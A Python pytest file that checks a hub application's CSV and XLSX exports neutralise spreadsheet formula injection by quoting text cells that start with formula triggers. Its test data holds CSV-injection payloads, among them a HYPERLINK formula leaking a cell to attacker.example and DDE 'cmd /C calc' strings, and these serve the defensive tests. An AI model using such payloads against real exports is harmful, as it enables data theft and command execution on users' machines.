"""Texts typed by people reach spreadsheets as data, never as formulas (OWASP CSV
Injection): the appeals CSV export puts a quote before a text cell starting with
= + - @ tab or CR; the XLSX reports write every text as a string cell, formula-like
ones with Excel's quote prefix. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]

from hub.domain.spreadsheet_cells import FORMULA_TRIGGERS, csv_cell, formula_like
from hub.services.reports_xlsx import _put
from tests.hub.conftest import client  # noqa: F401 (a fixture)
from tests.hub.test_api_appeals import API, APPEAL, REP_IIN

# What an attacker types, one per trigger (tab and CR only reach the writers from
# outside the API: safe_text refuses them in every free text).
HOSTILE = {
    "=": '=HYPERLINK("http://attacker.example/?leak="&A2,"Толығырақ")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
def test_the_neutraliser_quotes_each_trigger(trigger: str) -> None:
    hostile = HOSTILE[trigger]
    assert formula_like(hostile)
    assert csv_cell(hostile) == "'" + hostile


def test_numbers_and_plain_texts_are_untouched() -> None:
    for value in (-5, -2.5, 0, 17, None, "-5", "-12.5", "+77012345678", "Окно 3",
                  "AP-2026-00001", "2026-11-23", "a=b", "'quoted"):
        assert csv_cell(value) == value
        assert not formula_like(value)
    sheet = Workbook().active
    assert sheet is not None
    assert _put(sheet, 1, 1, -5).data_type == "n" and sheet["A1"].value == -5
    assert _put(sheet, 1, 2, -2.5).data_type == "n"
    cell = _put(sheet, 1, 3, "=1+1")
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", "=1+1", True)


def dangerous(value: object) -> bool:
    """A text a spreadsheet would take for a formula (this test's own reading of OWASP)."""
    return (isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))
            and re.fullmatch(r"[+-]?\d+", value) is None)


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_appeals_csv_export_holds_no_formula(client: TestClient) -> None:  # noqa: F811
    hostile = [v for v in HOSTILE.values() if not v.startswith(("\t", "\r"))]
    fields = {"full_name": hostile[0], "address": hostile[1], "subject": hostile[2],
              "summary": hostile[3], "representative_name": hostile[0],
              "representative_iin": REP_IIN, "representative_basis": hostile[3]}
    registered = client.post(API, json=APPEAL | fields)
    assert registered.status_code == 201, registered.text
    exported = client.get(f"{API}/export.csv", params={"purpose": "годовой отчёт"})
    assert exported.status_code == 200
    [row] = csv_rows(exported.text)
    for column, value in row.items():
        assert not dangerous(value), (column, value)
    for column, value in fields.items():
        if column != "representative_iin":
            assert row[column] == "'" + value  # neutralised, nothing else changed
    assert row["attachments"] == "0" and row["co_applicants"] == "0"


def xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def test_the_xlsx_reports_hold_no_formula(client: TestClient) -> None:  # noqa: F811
    center = client.get("/api/v1/center").json()
    names = {"zone": HOSTILE["="], "purpose": HOSTILE["@"], "category": HOSTILE["-"],
             "center": HOSTILE["+"]}
    consultation = next(z for z in center["zones"] if z["code"] == "consultation")
    complaint = next(p for p in center["purposes"] if p["code"] == "complaint")
    category = center["out_of_turn"][0]
    for path, body in (
            ("zones/consultation", consultation | {"name": {"kk": names["zone"],
                                                             "ru": names["zone"]}}),
            ("purposes/complaint", complaint | {"name": {"kk": names["purpose"],
                                                         "ru": names["purpose"]}}),
            (f"out-of-turn/{category['code']}", category | {
                "name": {"kk": names["category"], "ru": names["category"]}}),
            ("name", {"kk": names["center"], "ru": names["center"]})):
        changed = client.put(f"/api/v1/center/{path}", json=body)
        assert changed.status_code == 200, changed.text
    issued = client.post("/api/v1/tickets", json={"language": "ru", "purpose": "complaint"})
    assert issued.status_code == 201, issued.text

    for lang in ("kk", "ru"):
        report = client.get("/api/v1/reports/2026-Q4/xlsx", params={"lang": lang})
        assert report.status_code == 200, report.text
        cells = xlsx_cells(report.content)
        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        assert set(names.values()) <= texts  # every hostile name is in the report, as text
        for cell in cells:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if dangerous(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
        assert any(cell.data_type == "n" for cell in cells)  # numbers stayed numbers
